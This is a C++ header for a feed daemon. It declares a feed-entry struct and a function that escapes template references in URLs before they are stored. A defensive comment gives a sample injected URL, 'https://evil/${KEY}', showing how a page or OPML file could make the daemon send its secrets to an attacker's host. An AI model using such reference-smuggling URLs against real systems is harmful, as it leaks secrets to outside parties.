// What is to be put on the list.
#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace feedd {

struct NewFeed {
    std::string url;   // as the list writes it: what comes from elsewhere goes through list_url
    std::string name;  // "" none
    std::vector<std::string> tags;
    std::string interval;  // as the list writes it, "" none
};

// A URL as the list has to write it: with what fill_in would take for a reference escaped. Without
// it a page or an OPML file could have the daemon send its secrets away, as in
// "https://evil/${KEY}".
[[nodiscard]] std::string list_url(std::string_view url);

}  // namespace feedd
